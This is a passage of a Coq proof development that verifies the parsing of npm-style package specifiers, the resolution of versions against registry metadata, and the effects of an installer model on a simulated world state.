Proof. destruct s as [|d s]; cbn [strings.HasPrefix]; [done|]. apply andb_true_r. Qed.

Lemma Index_range s sub :
  -1 <= strings.Index s sub <= Z.of_nat (String.length s).
Proof.
  induction s as [|d s IH]; simpl.
  - destruct (strings.HasPrefix "" sub); lia.
  - destruct (strings.HasPrefix (String d s) sub); [lia|].
    destruct (Z.ltb_spec (strings.Index s sub) 0); lia.
Qed.

Lemma Contains_cons d s :
  strings.Contains (String d s) sep = Ascii.eqb c d || strings.Contains s sep.
Proof.
  unfold strings.Contains. cbn [strings.Index]. rewrite HasPrefix_sep.
  destruct (Ascii.eqb c d); simpl; [done|].
  pose proof (Index_range s sep).
  destruct (Z.ltb_spec (strings.Index s sep) 0);
    destruct (Z.leb_spec 0 (strings.Index s sep)); simpl; try lia;
    destruct (Z.leb_spec 0 (strings.Index s sep + 1)); simpl; lia.
Qed.

Lemma Contains_nil : strings.Contains "" sep = false.
Proof. reflexivity. Qed.

Lemma Contains_app s t :
  strings.Contains (s +:+ t) sep = strings.Contains s sep || strings.Contains t sep.
Proof.
  induction s as [|d s IH]; [done|].
  rewrite append_cons, !Contains_cons, IH. by rewrite orb_assoc.
Qed.

Lemma Index_free s :
  strings.Contains s sep = false -> strings.Index s sep = -1.
Proof.
  unfold strings.Contains. pose proof (Index_range s sep).
  destruct (Z.leb_spec 0 (strings.Index s sep)); [done|lia].
Qed.

(** The first separator of [before ++ sep ++ after] sits right after a
    separator-free [before]. *)
Lemma Index_first before after :
  strings.Contains before sep = false ->
  strings.Index (before +:+ String c after) sep = Z.of_nat (String.length before).
Proof.
  induction before as [|d b IH]; intros Hfree.
  - rewrite append_nil. cbn [strings.Index]. rewrite HasPrefix_sep.
    by rewrite Ascii.eqb_refl.
  - rewrite Contains_cons in Hfree. apply orb_false_elim in Hfree as [Hd Hb].
    rewrite append_cons. cbn [strings.Index String.length]. rewrite HasPrefix_sep, Hd, (IH Hb).
    destruct (Z.ltb_spec (Z.of_nat (String.length b)) 0); lia.
Qed.

Lemma LastIndex_free s :
  strings.Contains s sep = false -> strings.LastIndex s sep = -1.
Proof.
  induction s as [|d s IH]; intros Hfree; [done|].
  rewrite Contains_cons in Hfree. apply orb_false_elim in Hfree as [Hd Hs].
  cbn [strings.LastIndex]. rewrite (IH Hs), HasPrefix_sep, Hd. done.
Qed.

(** The last separator of [name ++ sep ++ suffix] sits right after [name]
    when [suffix] is separator-free. *)
Lemma LastIndex_last name suffix :
  strings.Contains suffix sep = false ->
  strings.LastIndex (name +:+ String c suffix) sep = Z.of_nat (String.length name).
Proof.
  intros Hfree. induction name as [|d n IH].
  - rewrite append_nil. cbn [strings.LastIndex String.length].
    rewrite (LastIndex_free _ Hfree), HasPrefix_sep, Ascii.eqb_refl. done.
  - rewrite append_cons. cbn [strings.LastIndex String.length]. rewrite IH.
    destruct (Z.leb_spec 0 (Z.of_nat (String.length n))); lia.
Qed.

Lemma LastIndex_range s : -1 <= strings.LastIndex s sep < Z.of_nat (String.length s).
Proof.
  induction s as [|d s IH]; [simpl; lia|].
  cbn [strings.LastIndex String.length].
  destruct (Z.leb_spec 0 (strings.LastIndex s sep)); [lia|].
  destruct (strings.HasPrefix (String d s) sep); lia.
Qed.

Lemma Count_go_nonneg fuel s : 0 <= strings.Count_go fuel s sep.
Proof.
  revert s. induction fuel as [|fuel IH]; intros s; simpl; [lia|].
  destruct (Z.ltb_spec (strings.Index s sep) 0); [lia|].
  specialize (IH (strings.drop (Z.to_nat (strings.Index s sep) + 1) s)). lia.
Qed.

(** [Count(s, sep) < 1] says that [s] holds no separator. *)
Lemma Count_lt_1 s :
  (strings.Count s sep <? 1) = negb (strings.Contains s sep).
Proof.
  unfold strings.Count, strings.Contains. cbn [strings.Count_go].
  pose proof (Index_range s sep).
  destruct (Z.ltb_spec (strings.Index s sep) 0) as [Hlt|Hge].
  - destruct (Z.leb_spec 0 (strings.Index s sep)); [lia|done].
  - pose proof (Count_go_nonneg (String.length s)
                  (strings.drop (Z.to_nat (strings.Index s sep) + 1) s)).
    cbn [String.length] in *.
    destruct (Z.leb_spec 0 (strings.Index s sep)); [|lia].
    simpl. apply Z.ltb_ge. lia.
Qed.
End one_byte_separator.

Lemma take_app_length s t : strings.take (String.length s) (s +:+ t) = s.
Proof.
  induction s as [|d s IH]; [by destruct t|].
  rewrite append_cons. cbn [String.length strings.take]. by rewrite IH.
Qed.

Lemma drop_app_length s t n :
  strings.drop (String.length s + n) (s +:+ t) = strings.drop n t.
Proof.
  induction s as [|d s IH]; [done|].
  rewrite append_cons. cbn [String.length Nat.add strings.drop]. apply IH.
Qed.

Lemma take_empty_iff n s :
  (n <= String.length s)%nat -> strings.take n s = "" -> n = 0%nat.
Proof. destruct n, s; simpl; intros; try done; lia. Qed.

Lemma string_eqb_empty s : String.eqb s "" = false <-> s <> "".
Proof. destruct (String.eqb_spec s ""); split; congruence. Qed.

(** ** Properties of [Parse] *)

Lemma Contains_HasPrefix c s :
  strings.HasPrefix s (String c "") = true -> strings.Contains s (String c "") = true.
Proof.
  rewrite HasPrefix_sep. destruct s as [|d s]; [done|].
  intros H. by rewrite Contains_cons, H.
Qed.

(** [Parse] never panics: [parts] has two elements whenever it is indexed. *)
Lemma Parse_returns arg : is_Some (Parse arg).
Proof.
  unfold Parse.
  destruct (String.eqb arg ""); [by eexists|].
  destruct (strings.Contains arg "@" && negb (strings.HasPrefix arg "@")) eqn:Hb.
  - apply andb_true_iff in Hb as [Hc _]. unfold strings.Contains in Hc.
    cbn [strings.SplitN].
    destruct (Z.ltb_spec (strings.Index arg "@") 0) as [Hlt|_];
      [apply Z.leb_le in Hc; lia|].
    cbn [lookup list_lookup mbind option_bind].
    destruct (String.eqb _ ""); by eexists.
  - repeat match goal with |- is_Some (if ?b then _ else _) => destruct b end;
      by eexists.
Qed.

Lemma Parse_unscoped_versioned before after :
  strings.Contains before "@" = false ->
  strings.HasPrefix (before +:+ "@" +:+ after) "@" = false ->
  before <> "" /\
  Parse (before +:+ "@" +:+ after) = Some (Ok (mkPackageInfo before after)).
Proof.
  intros Hfree Hunscoped.
  assert (Hne : before <> "").
  { intros ->. by rewrite append_nil in Hunscoped. }
  split; [done|]. unfold Parse.
  assert (String.eqb (before +:+ "@" +:+ after) "" = false) as ->.
  { apply string_eqb_empty. by destruct before. }
  rewrite Hunscoped, Contains_app. change ("@" +:+ after) with (String "@" after).
  rewrite Contains_cons, Ascii.eqb_refl, orb_true_r. cbn [andb negb strings.SplitN].
  rewrite Index_first by done.
  destruct (Z.ltb_spec (Z.of_nat (String.length before)) 0); [lia|].
  rewrite Nat2Z.id, take_app_length, drop_app_length.
  cbn [lookup list_lookup mbind option_bind String.length strings.drop].
  by apply string_eqb_empty in Hne as ->.
Qed.

Lemma Parse_scoped_versioned name suffix :
  strings.HasPrefix (name +:+ "@" +:+ suffix) "@" = true ->
  name <> "" ->
  strings.Contains suffix "@" = false ->
  Parse (name +:+ "@" +:+ suffix) = Some (Ok (mkPackageInfo name suffix)).
Proof.
  intros Hscoped Hne Hfree. unfold Parse.
  assert (String.eqb (name +:+ "@" +:+ suffix) "" = false) as ->.
  { apply string_eqb_empty. by destruct name. }
  rewrite Hscoped, andb_false_r. change ("@" +:+ suffix) with (String "@" suffix).
  rewrite LastIndex_last by done.
  assert (0 < Z.of_nat (String.length name)) as Hpos by (destruct name; [done|simpl; lia]).
  destruct (Z.ltb_spec 0 (Z.of_nat (String.length name))); [|lia].
  rewrite Nat2Z.id, take_app_length.
  apply string_eqb_empty in Hne as ->.
  replace (Z.to_nat (Z.of_nat (String.length name) + 1))
    with (String.length name + 1)%nat by lia.
  by rewrite drop_app_length.
Qed.

Lemma Parse_scoped_bare rest :
  strings.Contains rest "@" = false ->
  Parse (String "@" rest)
  = Some (if strings.Contains (String "@" rest) "/"
          then Ok (mkPackageInfo (String "@" rest) "latest")
          else Err InvalidScopedName).
Proof.
  intros Hfree. unfold Parse.
  cbn [String.eqb strings.HasPrefix Ascii.eqb Bool.eqb andb negb].
  rewrite andb_false_r. cbn [strings.LastIndex].
  rewrite (LastIndex_free _ _ Hfree). cbn [Z.leb Z.compare strings.HasPrefix].
  rewrite Ascii.eqb_refl. cbn [andb Z.ltb Z.compare].
  rewrite Count_lt_1. by destruct (strings.Contains (String "@" rest) "/").
Qed.

Lemma Parse_unscoped_bare raw :
  raw <> "" ->
  strings.Contains raw "@" = false ->
  Parse raw
  = Some (if strings.Contains raw " "
          then Err ContainsWhitespace
          else Ok (mkPackageInfo raw "latest")).
Proof.
  intros Hne Hfree. unfold Parse.
  apply string_eqb_empty in Hne as ->. rewrite Hfree. cbn [andb].
  destruct (strings.HasPrefix raw "@") eqn:Hp.
  - apply Contains_HasPrefix in Hp. congruence.
  - by destruct (strings.Contains raw " ").
Qed.

(** In the scoped branch the name before a non-leading last ['@'] is never
    empty. *)
Lemma scoped_name_nonempty arg :
  0 < strings.LastIndex arg "@" ->
  strings.take (Z.to_nat (strings.LastIndex arg "@")) arg <> "".
Proof.
  intros Hpos Hempty. pose proof (LastIndex_range "@" arg) as Hr.
  apply take_empty_iff in Hempty; lia.
Qed.

Example Parse_foo : Parse "foo" = Some (Ok (mkPackageInfo "foo" "latest")).
Proof. reflexivity. Qed.
Example Parse_scoped : Parse "@scope/pkg@2.0.0" = Some (Ok (mkPackageInfo "@scope/pkg" "2.0.0")).
Proof. reflexivity. Qed.
Example Parse_multi_at : Parse "a@b@c" = Some (Ok (mkPackageInfo "a" "b@c")).
Proof. reflexivity. Qed.

(** C2: [Parse] follows the case analysis of the specifier grammar.  The
    empty string fails with [EmptyInput].  An unscoped string
    [before ++ "@" ++ after] whose [before] holds no ['@'] is split at that
    first ['@'] (and would fail with [EmptyName] for an empty [before],
    which an unscoped string never has).  A string that starts with ['@']
    and reads [name ++ "@" ++ suffix], with a non-empty [name] and no ['@']
    in [suffix], is split at that last ['@'].  A string ["@" ++ rest] with
    no further ['@'] gives the selector ["latest"] when it holds a ['/'] and
    fails with [InvalidScopedName] otherwise.  A non-empty string without
    ['@'] fails with [ContainsWhitespace] when it holds a space and gives
    the selector ["latest"] otherwise.  The listed examples evaluate as
    stated, and [Parse] is a function of its argument alone. *)
Theorem Parse_case_analysis :
  Parse "" = Some (Err EmptyInput)
  /\ (forall before after,
        strings.Contains before "@" = false ->
        strings.HasPrefix (before +:+ "@" +:+ after) "@" = false ->
        Parse (before +:+ "@" +:+ after)
        = Some (if String.eqb before "" then Err EmptyName
                else Ok (mkPackageInfo before after)))
  /\ (forall name suffix,
        strings.HasPrefix (name +:+ "@" +:+ suffix) "@" = true ->
        name <> "" ->
        strings.Contains suffix "@" = false ->
        Parse (name +:+ "@" +:+ suffix) = Some (Ok (mkPackageInfo name suffix)))
  /\ (forall rest,
        strings.Contains rest "@" = false ->
        Parse ("@" +:+ rest)
        = Some (if strings.Contains ("@" +:+ rest) "/"
                then Ok (mkPackageInfo ("@" +:+ rest) "latest")
                else Err InvalidScopedName))
  /\ (forall raw,
        raw <> "" ->
        strings.Contains raw "@" = false ->
        Parse raw
        = Some (if strings.Contains raw " " then Err ContainsWhitespace
                else Ok (mkPackageInfo raw "latest")))
  /\ (Parse "foo" = Some (Ok (mkPackageInfo "foo" "latest"))
      /\ Parse "foo@1.2.3" = Some (Ok (mkPackageInfo "foo" "1.2.3"))
      /\ Parse "@scope/pkg" = Some (Ok (mkPackageInfo "@scope/pkg" "latest"))
      /\ Parse "@scope/pkg@2.0.0" = Some (Ok (mkPackageInfo "@scope/pkg" "2.0.0"))
      /\ Parse "@scope" = Some (Err InvalidScopedName)
      /\ Parse "foo bar" = Some (Err ContainsWhitespace))
  /\ (forall raw raw', raw = raw' -> Parse raw = Parse raw').
Proof.
  split; [reflexivity|].
  split.
  { intros before after Hfree Hunscoped.
    destruct (Parse_unscoped_versioned before after Hfree Hunscoped) as [Hne ->].
    by apply string_eqb_empty in Hne as ->. }
  split; [exact Parse_scoped_versioned|].
  split; [exact Parse_scoped_bare|].
  split; [exact Parse_unscoped_bare|].
  split; [by repeat split|].
  by intros raw raw' ->.
Qed.

(** The case analysis at concrete specifiers, one per clause. *)
Lemma Parse_case_analysis_witness :
  Parse "left-pad@^1.3.0" = Some (Ok (mkPackageInfo "left-pad" "^1.3.0"))
  /\ Parse "@types/node@20.1.0" = Some (Ok (mkPackageInfo "@types/node" "20.1.0"))
  /\ Parse "@types/node" = Some (Ok (mkPackageInfo "@types/node" "latest"))
  /\ Parse "left pad" = Some (Err ContainsWhitespace).
Proof.
  destruct Parse_case_analysis as (_ & Hunscoped & Hscoped & Hbare & Hplain & _).
  split; [exact (Hunscoped "left-pad" "^1.3.0" eq_refl eq_refl)|].
  split; [refine (Hscoped "@types/node" "20.1.0" eq_refl _ eq_refl); discriminate|].
  split; [exact (Hbare "types/node" eq_refl)|].
  refine (Hplain "left pad" _ eq_refl); discriminate.
Defined.

(** C10: in the scoped branch of [Parse] the name before a non-leading
    last ['@'] is never empty, so no input makes [Parse] return the
    "invalid scoped package" error. *)
Theorem Parse_never_InvalidScopedSpecifier :
  (forall arg,
     strings.HasPrefix arg "@" = true ->
     0 < strings.LastIndex arg "@" ->
     strings.take (Z.to_nat (strings.LastIndex arg "@")) arg <> "")
  /\ (forall arg, Parse arg <> Some (Err InvalidScopedSpecifier)).
Proof.
  split; [intros arg _; apply scoped_name_nonempty|].
  intros arg. unfold Parse.
  destruct (String.eqb arg ""); [discriminate|].
  destruct (strings.Contains arg "@" && negb (strings.HasPrefix arg "@")).
  - destruct (strings.SplitN arg "@" 2 !! 0%nat) as [p0|]; [|discriminate].
    cbn [mbind option_bind]. destruct (String.eqb p0 ""); [discriminate|].
    destruct (strings.SplitN arg "@" 2 !! 1%nat); discriminate.
  - destruct (strings.HasPrefix arg "@").
    + destruct (Z.ltb_spec 0 (strings.LastIndex arg "@")) as [Hpos|_].
      * pose proof (scoped_name_nonempty arg Hpos) as Hne.
        apply string_eqb_empty in Hne as ->. discriminate.
      * destruct (strings.Count arg "/" <? 1); discriminate.
    + destruct (strings.Contains arg " "); discriminate.
Qed.

(** The scoped branch at a concrete specifier. *)
Lemma Parse_never_InvalidScopedSpecifier_witness :
  strings.take (Z.to_nat (strings.LastIndex "@a@1" "@")) "@a@1" <> ""
  /\ Parse "@@" <> Some (Err InvalidScopedSpecifier).
Proof.
  split.
  - apply (proj1 Parse_never_InvalidScopedSpecifier "@a@1"); reflexivity.
  - apply (proj2 Parse_never_InvalidScopedSpecifier "@@").
Defined.

(** ** The resolver *)

Section resolver.
Context {SV : Semver}.

(** A key of the versions mapping that parses and satisfies the constraint. *)
Definition candidate (c : Constraints) (k : string) (ver : SemVersion) : Prop :=
  NewVersion k = Ok ver /\ Constraints_Check c ver = true.

Lemma assoc_In {A} k (m : list (string * A)) :
  In k (map fst m) -> exists a, assoc k m = Some a.
Proof.
  induction m as [|[k' a] m IH]; [done|]. intros [<-|Hin]; cbn [assoc].
  - rewrite String.eqb_refl. by eexists.
  - destruct (String.eqb k k'); [by eexists|]. by apply IH.
Qed.

Lemma assoc_Some_In {A} k (m : list (string * A)) a :
  assoc k m = Some a -> In k (map fst m).
Proof.
  induction m as [|[k' a'] m IH]; [done|]. cbn [assoc map fst].
  destruct (String.eqb_spec k k') as [->|_]; [by left|]. intros H. right. by apply IH.
Qed.

Lemma scan_snoc c keys k :
  scan c (keys ++ [k]) = scan_step c (scan c keys) k.
Proof. unfold scan. by rewrite fold_left_app. Qed.

(** The loop invariant of the scan: nothing matched so far and no candidate
    seen, or the match is a candidate no seen candidate is greater than. *)
Definition scan_inv (c : Constraints) (keys : list string)
    (st : string * option SemVersion) : Prop :=
  match st.2 with
  | None =>
      st.1 = "" /\ forall k ver, In k keys -> NewVersion k = Ok ver ->
                                  Constraints_Check c ver = false
  | Some m =>
      In st.1 keys /\ candidate c st.1 m
      /\ forall k ver, In k keys -> candidate c k ver -> GreaterThan ver m = false
  end.

Lemma scan_invariant `{!SemverLaws SV} c keys : scan_inv c keys (scan c keys).
Proof.
  induction keys as [|k keys IH] using rev_ind.
  - cbn. split; [done|]. by intros k ver [].
  - rewrite scan_snoc. destruct (scan c keys) as [mv ms].
    unfold scan_inv, scan_step in *. cbn [fst snd] in *.
    destruct (NewVersion k) as [ver|e] eqn:Hk.
    + destruct (Constraints_Check c ver) eqn:Hc.
      * destruct ms as [m|].
        -- destruct IH as (Hin & Hcand & Hmax).
           destruct (GreaterThan ver m) eqn:Hgt; cbn [fst snd].
           ++ split; [apply in_or_app; right; by left|]. split; [done|].
              intros k' ver' [Hin'|[<-|[]]]%in_app_or Hcand'.
              ** destruct (GreaterThan ver' ver) eqn:Hgt'; [|done].
                 pose proof (GreaterThan_trans _ _ _ Hgt' Hgt) as Habove.
                 by rewrite (Hmax k' ver' Hin' Hcand') in Habove.
              ** destruct Hcand' as [Hv _]. rewrite Hk in Hv.
                 injection Hv as <-. apply GreaterThan_irrefl.
           ++ split; [apply in_or_app; by left|]. split; [done|].
              intros k' ver' [Hin'|[<-|[]]]%in_app_or Hcand'; [by eapply Hmax|].
              destruct Hcand' as [Hv _]. rewrite Hk in Hv. by injection Hv as <-.
        -- cbn [fst snd]. split; [apply in_or_app; right; by left|]. split; [done|].
           destruct IH as [_ Hnone].
           intros k' ver' [Hin'|[<-|[]]]%in_app_or [Hv Hc'].
           ++ rewrite (Hnone k' ver' Hin' Hv) in Hc'. discriminate.
           ++ rewrite Hk in Hv. injection Hv as <-. apply GreaterThan_irrefl.
      * destruct ms as [m|]; cbn [fst snd].
        -- destruct IH as (Hin & Hcand & Hmax).
           split; [apply in_or_app; by left|]. split; [done|].
           intros k' ver' [Hin'|[<-|[]]]%in_app_or Hcand'; [by eapply Hmax|].
           destruct Hcand' as [Hv Hc']. rewrite Hk in Hv. injection Hv as <-. congruence.
        -- destruct IH as [Hmv Hnone]. split; [done|].
           intros k' ver' [Hin'|[<-|[]]]%in_app_or Hv; [by eapply Hnone|].
           rewrite Hk in Hv. by injection Hv as <-.
    + destruct ms as [m|]; cbn [fst snd].
      * destruct IH as (Hin & Hcand & Hmax).
        split; [apply in_or_app; by left|]. split; [done|].
        intros k' ver' [Hin'|[<-|[]]]%in_app_or Hcand'; [by eapply Hmax|].
        destruct Hcand' as [Hv _]. congruence.
      * destruct IH as [Hmv Hnone]. split; [done|].
        intros k' ver' [Hin'|[<-|[]]]%in_app_or Hv; [by eapply Hnone|]. congruence.
Qed.

(** Without any candidate the scan leaves [matchedVersion] empty; this needs
    no law of the library. *)
Lemma scan_no_candidate c keys :
  (forall k ver, In k keys -> NewVersion k = Ok ver -> Constraints_Check c ver = false) ->
  scan c keys = ("", None).
Proof.
  induction keys as [|k keys IH] using rev_ind; [done|].
  intros Hnone. rewrite scan_snoc, IH.
  - unfold scan_step. destruct (NewVersion k) as [ver|] eqn:Hk; [|done].
    rewrite (Hnone k ver); [done| |done]. apply in_or_app. right. by left.
  - intros k' ver' Hin. apply Hnone. apply in_or_app. by left.
Qed.

(** C1: the order of resolution.  The selector is first replaced by its
    dist-tag target when it is a dist-tag key.  If the (possibly replaced)
    selector is a key of the versions mapping, that version is returned
    with its archive URL and dependencies.  Otherwise it is read as a range
    constraint, failing with [InvalidConstraint] when it does not parse; the
    keys are scanned, those that do not parse as versions being skipped;
    without a key that satisfies the constraint the resolution fails with
    [NoMatchingVersion], and with one the result is a satisfying key that no
    satisfying key is greater than, with that key's archive URL and
    dependencies. *)
Theorem resolveVersion_order `{!SemverLaws SV} (pkg : PackageInfo) (meta : PackageMeta) :
  let version := tagged meta (Version pkg) in
  let keys := map fst (Versions meta) in
  (forall tag, DistTags meta !! Version pkg = Some tag -> version = tag)
  /\ (DistTags meta !! Version pkg = None -> version = Version pkg)
  /\ (forall vinfo,
        assoc version (Versions meta) = Some vinfo ->
        resolveVersion pkg meta
        = Ok (mkResolution version (Tarball vinfo) (Dependencies vinfo)))
  /\ (assoc version (Versions meta) = None ->
      (forall e, NewConstraint version = Err e ->
                 resolveVersion pkg meta = Err (InvalidConstraint version e))
      /\ (forall c, NewConstraint version = Ok c ->
            ((forall k ver, In k keys -> NewVersion k = Ok ver ->
                            Constraints_Check c ver = false) ->
             resolveVersion pkg meta = Err (NoMatchingVersion pkg))
            /\ ((exists k ver, In k keys /\ candidate c k ver) ->
                exists k ver vinfo,
                  resolveVersion pkg meta
                  = Ok (mkResolution k (Tarball vinfo) (Dependencies vinfo))
                  /\ assoc k (Versions meta) = Some vinfo
                  /\ candidate c k ver
                  /\ forall k' ver', In k' keys -> candidate c k' ver' ->
                                     GreaterThan ver' ver = false))).
Proof.
  intros version keys. subst version keys.
  split; [intros tag Htag; unfold tagged; by rewrite Htag|].
  split; [intros Htag; unfold tagged; by rewrite Htag|].
  split; [intros vinfo Hv; unfold resolveVersion; by rewrite Hv|].
  intros Hnokey. split.
  { intros e He. unfold resolveVersion. by rewrite Hnokey, He. }
  intros c Hc. split.
  - intros Hnone. unfold resolveVersion. rewrite Hnokey, Hc.
    by rewrite (scan_no_candidate _ _ Hnone).
  - intros (k0 & ver0 & Hin0 & Hcand0).
    pose proof (scan_invariant c (map fst (Versions meta))) as Hinv.
    unfold resolveVersion. rewrite Hnokey, Hc.
    destruct (scan c (map fst (Versions meta))) as [mv ms].
    unfold scan_inv in Hinv. cbn [fst snd] in *.
    destruct ms as [m|].
    + destruct Hinv as (Hin & Hcand & Hmax).
      destruct (assoc_In _ _ Hin) as [vinfo Hvinfo].
      assert (mv <> "") as Hne.
      { intros ->. destruct Hcand as [Hv _]. by apply NewVersion_empty in Hv. }
      apply string_eqb_empty in Hne as ->.
      exists mv, m, vinfo. unfold Versions_at. rewrite Hvinfo. cbn [default].
      split; [done|]. split; [done|]. split; [done|]. exact Hmax.
    + destruct Hinv as [_ Hnone]. destruct Hcand0 as [Hv0 Hc0].
      rewrite (Hnone k0 ver0 Hin0 Hv0) in Hc0. discriminate.
Qed.

End resolver.

(** [resolvePackage] issues one metadata request and resolves within the
    document it decodes. *)
Lemma resolvePackage_decoded {SV : Semver} env pkg w resp meta :
  env_http env (length (requests w))
    ("https://registry.npmjs.org/"
       +:+ (if strings.HasPrefix (Name pkg) "@"
            then strings.ReplaceAll (Name pkg) "/" "%2F" else Name pkg))
  = Ok resp ->
  StatusCode resp = StatusOK ->
  json_Decode (RespBody resp) = Ok meta ->
  exists w', resolvePackage env pkg w = Some (resolveVersion pkg meta, w')
             /\ installed w' = installed w /\ fs w' = fs w /\ stdout w' = stdout w.
Proof.
  intros Hget Hstatus Hjson. unfold resolvePackage, bind, http_Get.
  rewrite Hget, Hstatus, Hjson. cbn. by eexists.
Qed.

(** The triples satisfy the laws of the interface. *)
Lemma triples_gt_lt a b :
  triples.gt a b = true <->
  (b.1.1 < a.1.1
   \/ (a.1.1 = b.1.1 /\ (b.1.2 < a.1.2 \/ (a.1.2 = b.1.2 /\ b.2 < a.2))))%nat.
Proof.
  destruct a as [[a1 a2] a3], b as [[b1 b2] b3]. unfold triples.gt. cbn [fst snd].
  rewrite !orb_true_iff, !andb_true_iff, !orb_true_iff, !andb_true_iff,
    !Nat.ltb_lt, !Nat.eqb_eq. done.
Qed.

#[global] Instance triples_laws : SemverLaws triples.semver.
Proof.
  split.
  - intros v. apply not_true_iff_false. cbn. rewrite triples_gt_lt. lia.
  - intros a b c. cbn. rewrite !triples_gt_lt. lia.
  - intros v. cbn. discriminate.
Qed.

(** The registry of the resolution examples: versions 1.0.0, 2.0.0 and
    1.2.0 (visited in that order) and one entry that is no version. *)
Definition example_meta : PackageMeta :=
  mkPackageMeta {[ "latest" := "2.0.0" ]}
    [("1.0.0", mkVersionInfo "https://r/a-1.0.0.tgz" []);
     ("2.0.0", mkVersionInfo "https://r/a-2.0.0.tgz" [("b", "1.x")]);
     ("legacy", mkVersionInfo "https://r/a-legacy.tgz" []);
     ("1.2.0", mkVersionInfo "https://r/a-1.2.0.tgz" [("b", "^1.0.0")])].

Example resolve_latest :
  resolveVersion (mkPackageInfo "a" "latest") example_meta
  = Ok (mkResolution "2.0.0" "https://r/a-2.0.0.tgz" [("b", "1.x")]).
Proof. reflexivity. Qed.

Example resolve_caret :
  resolveVersion (mkPackageInfo "a" "^1.0.0") example_meta
  = Ok (mkResolution "1.2.0" "https://r/a-1.2.0.tgz" [("b", "^1.0.0")]).
Proof. reflexivity. Qed.

Example resolve_no_match :
  resolveVersion (mkPackageInfo "a" "3.x") example_meta
  = Err (NoMatchingVersion (mkPackageInfo "a" "3.x")).
Proof. reflexivity. Qed.

(** The order of resolution on the example registry: ["^1.0.0"] is no key,
    parses as a constraint, and has the candidate ["1.0.0"]. *)
Lemma resolveVersion_order_witness :
  exists k ver vinfo,
    resolveVersion (mkPackageInfo "a" "^1.0.0") example_meta
    = Ok (mkResolution k (Tarball vinfo) (Dependencies vinfo))
    /\ assoc k (Versions example_meta) = Some vinfo
    /\ candidate (triples.Caret (1, 0, 0)%nat) k ver
    /\ forall k' ver', In k' (map fst (Versions example_meta)) ->
                       candidate (triples.Caret (1, 0, 0)%nat) k' ver' ->
                       GreaterThan ver' ver = false.
Proof.
  refine (proj2 (proj2 (proj2 (proj2 (proj2
            (resolveVersion_order (mkPackageInfo "a" "^1.0.0") example_meta))) eq_refl)
            (triples.Caret (1, 0, 0)%nat) eq_refl) _).
  exists "1.0.0", (1, 0, 0)%nat. split; [by left|]. by split.
Defined.

(** ** How the engine's calls change the world *)

Lemma bind_Some {A B} (m : M A) (k : A -> M B) w b w' :
  bind m k w = Some (b, w') <->
  exists a w1, m w = Some (a, w1) /\ k a w1 = Some (b, w').
Proof.
  unfold bind. split.
  - destruct (m w) as [[a w1]|]; [|done]. intros H. by exists a, w1.
  - intros (a & w1 & -> & H). done.
Qed.

(** A key of [installed] that is marked. *)
Definition marked (w : World) (key : string) : Prop :=
  default false (installed w !! key) = true.

(** [w'] comes after [w]: marks stay, and the output and the request log
    only grow at the end. *)
Record extends (w w' : World) : Prop := mkExtends {
  ext_marks : forall key, marked w key -> marked w' key;
  ext_stdout : stdout w `prefix_of` stdout w';
  ext_requests : requests w `prefix_of` requests w'
}.

#[global] Instance extends_preorder : PreOrder extends.
Proof.
  split.
  - intros w. by split.
  - intros w1 w2 w3 [Hm1 Ho1 Hr1] [Hm2 Ho2 Hr2]. split.
    + auto.
    + by etrans.
    + by etrans.
Qed.

Definition preserves {A} (m : M A) : Prop :=
  forall w a w', m w = Some (a, w') -> extends w w'.

Lemma preserves_ret {A} (a : A) : preserves (ret a).
Proof. intros w a' w' [= _ <-]. reflexivity. Qed.

Lemma preserves_bind {A B} (m : M A) (k : A -> M B) :
  preserves m -> (forall a, preserves (k a)) -> preserves (bind m k).
Proof.
  intros Hm Hk w b w' (a & w1 & H1 & H2)%bind_Some.
  etrans; [by eapply Hm|by eapply Hk].
Qed.

Lemma preserves_diverge {A} : preserves (fun _ => @None (A * World)).
Proof. by intros w a w'. Qed.

Section preservation.
Context {SV : Semver} (env : Env).

Lemma preserves_Println line : preserves (Println line).
Proof.
  intros w a w' [= _ <-]. split; cbn; [done| |done]. by apply prefix_app_r.
Qed.

Lemma preserves_http_Get url : preserves (http_Get env url).
Proof.
  intros w a w' [= _ <-]. split; cbn; [done|done|]. by apply prefix_app_r.
Qed.

Lemma preserves_fs_call op : preserves (fs_call env op).
Proof.
  intros w a w'. unfold fs_call.
  destruct (env_fault env (fs_calls w)); [|destruct (op (fs w))];
    intros [= _ <-]; by split.
Qed.

Lemma preserves_io_Copy name data : preserves (io_Copy env name data).
Proof.
  intros w a w'. unfold io_Copy.
  destruct (env_fault env (fs_calls w)); intros [= _ <-]; by split.
Qed.

Lemma preserves_Stat name : preserves (os_Stat_IsNotExist env name).
Proof. intros w a w' [= _ <-]. reflexivity. Qed.

Lemma preserves_is_installed key : preserves (is_installed key).
Proof. intros w a w' [= _ <-]. reflexivity. Qed.

Lemma preserves_mark_installed key : preserves (mark_installed key).
Proof.
  intros w a w' [= _ <-]. split; cbn; [|done|done].
  intros k. unfold marked. cbn.
  destruct (decide (key = k)) as [->|Hne].
  - by rewrite lookup_insert_eq.
  - by rewrite lookup_insert_ne.
Qed.

Ltac preserves_step :=
  lazymatch goal with
  | |- preserves (bind _ _) => apply preserves_bind; [|intros ?]
  | |- preserves (ret _) => apply preserves_ret
  | |- preserves (fun _ => None) => apply preserves_diverge
  | |- preserves (Println _) => apply preserves_Println
  | |- preserves (http_Get _ _) => apply preserves_http_Get
  | |- preserves (fs_call _ _) => apply preserves_fs_call
  | |- preserves (io_Copy _ _ _) => apply preserves_io_Copy
  | |- preserves (os_Stat_IsNotExist _ _) => apply preserves_Stat
  | |- preserves (is_installed _) => apply preserves_is_installed
  | |- preserves (mark_installed _) => apply preserves_mark_installed
  | |- preserves (match ?x with _ => _ end) => destruct x
  end.

Lemma preserves_resolvePackage pkg : preserves (resolvePackage env pkg).
Proof. unfold resolvePackage. repeat preserves_step. Qed.

Lemma preserves_extract_entry dest en : preserves (extract_entry env dest en).
Proof.
  unfold extract_entry, os_MkdirAll, os_Create. repeat preserves_step.
Qed.

Lemma preserves_extract dest ens fin : preserves (extract env dest ens fin).
Proof.
  induction ens as [|en ens IH]; cbn [extract]; repeat preserves_step.
  - apply preserves_extract_entry.
  - apply IH.
Qed.

Lemma preserves_downloadAndExtract url dest : preserves (downloadAndExtract env url dest).
Proof.
  unfold downloadAndExtract. repeat preserves_step. apply preserves_extract.
Qed.

Lemma preserves_ensureCached key url cachePath :
  preserves (ensureCached env key url cachePath).
Proof.
  unfold ensureCached. repeat preserves_step. apply preserves_downloadAndExtract.
Qed.

Lemma preserves_link name cachePath : preserves (link env name cachePath).
Proof.
